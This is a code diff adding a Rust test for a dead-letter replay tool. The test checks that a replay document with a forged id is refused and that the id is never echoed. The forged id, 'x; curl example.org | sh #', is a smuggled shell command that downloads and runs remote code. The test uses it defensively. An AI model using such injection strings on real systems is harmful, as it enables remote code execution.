@@ -290,3 +290,32 @@ async fn a_replay_that_was_cut_off_is_shown_as_that() {
         "nobody is to be taken over: {ran:?}"
     );
 }
+
+/// Who may write below the control prefix writes no command for an operator's shell.
+#[tokio::test]
+async fn a_replay_whose_id_is_not_its_folder_is_refused_and_its_id_never_printed() {
+    const FORGED: &str = "x; curl example.org | sh #";
+    let cloud = archived(&ten());
+    let (id, _) = stopped(&cloud).await;
+    let key = |id: &str| format!("my-bucket/dead-letters-control/replays/{id}/replay.json");
+    let mut forged: Value = serde_json::from_str(&cloud.objects()[&key(&id)]).unwrap();
+    forged["id"] = FORGED.into();
+    let text = forged.to_string();
+    cloud.put(&key(&id), &text);
+    let said = format!("redrivectl: s3://{} is not a valid document of a replay", key(&id));
+    for args in [&["show", &id][..], &["stop", &id], &["free", &id]] {
+        let ran = replays(&cloud, args).await;
+        assert!(ran.code == 1 && ran.err.starts_with(&said), "{ran:?}");
+        assert!(!format!("{ran:?}").contains("curl"), "{ran:?}");
+    }
+    assert_eq!(cloud.objects()[&key(&id)], text);
+    // A folder of this name beside it: what is listed is no id either.
+    cloud.put(&key(FORGED), &text);
+    let listed = replays(&cloud, &[]).await;
+    assert_eq!((listed.code, listed.out.matches("(cannot be read)").count()), (1, 2), "{listed:?}");
+    // A replay of the same letters offers neither for being continued.
+    let world = World { answers: true, input: b"n\n".to_vec(), ..World::default() };
+    let ran = replay_in(world, &cloud, &["--dry-run"]).await;
+    assert!(!format!("{ran:?}").contains("curl"), "{ran:?}");
+    assert_eq!(replay(&cloud, &["--resume", FORGED]).await.code, 1);
+}
